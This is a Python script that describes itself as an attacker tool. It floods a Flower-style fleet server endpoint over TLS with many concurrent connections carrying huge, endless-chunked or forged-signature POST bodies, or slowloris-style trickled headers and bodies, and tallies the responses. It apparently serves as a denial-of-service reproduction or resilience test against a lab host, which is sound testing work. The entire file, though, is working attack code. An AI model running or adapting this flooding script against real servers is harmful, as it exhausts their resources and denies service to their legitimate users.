"""An attacker, alone on a host: `python flood.py KIND CONNECTIONS SECONDS`; prints what happened.

`bare`: 30 MB without headers; `forged`: 30 MB with headers that look signed; `endless`: the same in
chunks, without a length; `small`: 5 MB with such headers, again and again; `slow-head` and
`slow-body`: a byte now and then. Each connection ends with a status, or with 0 when it is closed.
"""

import base64
import collections
import contextlib
import os
import socket
import ssl
import sys
import threading
import time

KIND, CONNECTIONS, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
TLS = ssl.create_default_context(cafile="/srv/repper/ca.crt")
LARGE, PIECE = 30_000_000, bytes(1 << 16)
END = time.monotonic() + SECONDS
seen: collections.Counter[int] = collections.Counter()


def head(length: str) -> bytes:
    lines = ["POST /v1/fleet/push-object HTTP/1.1", "Host: server.example", length]
    if KIND != "bare":
        key, signature = (base64.b64encode(os.urandom(n)).decode() for n in (215, 103))
        lines += [
            f"flwr-public-key: {key}", "flwr-timestamp: 2030-01-01T00:00:00.0+00:00",
            f"flwr-signature: {signature}", "Content-Type: application/protobuf",
        ]  # fmt: skip
    return "\r\n".join([*lines, "", ""]).encode()


def send(tls: ssl.SSLSocket) -> None:
    if KIND == "slow-head":
        for byte in head("Content-Length: 100"):
            tls.sendall(bytes([byte]))
            time.sleep(1)
    elif KIND == "slow-body":
        tls.sendall(head("Content-Length: 1000000"))
        while time.monotonic() < END:
            tls.sendall(b"0")
            time.sleep(2)
    elif KIND == "endless":
        tls.sendall(head("Transfer-Encoding: chunked"))
        for _ in range(LARGE // len(PIECE)):
            tls.sendall(b"%x\r\n%s\r\n" % (len(PIECE), PIECE))
    else:
        size = 5_000_000 if KIND == "small" else LARGE
        tls.sendall(head(f"Content-Length: {size}"))
        for _ in range(size // len(PIECE)):
            tls.sendall(PIECE)
        tls.sendall(bytes(size % len(PIECE)))


def attack() -> None:
    while True:
        status = 0
        try:
            with (
                socket.create_connection(("server.example", 8443), 10) as raw,
                TLS.wrap_socket(raw, server_hostname="server.example") as tls,
            ):
                tls.settimeout(SECONDS)
                with contextlib.suppress(OSError):  # the answer can come before the end
                    send(tls)
                status = int(tls.recv(1 << 16).split()[1])
        except (OSError, IndexError, ValueError):
            pass
        seen[status] += 1
        if KIND.startswith("slow") or time.monotonic() > END:
            return


threads = [threading.Thread(target=attack, daemon=True) for _ in range(CONNECTIONS)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join(max(0.0, END + 30 - time.monotonic()))
sys.stdout.write(f"{dict(seen)}\n")
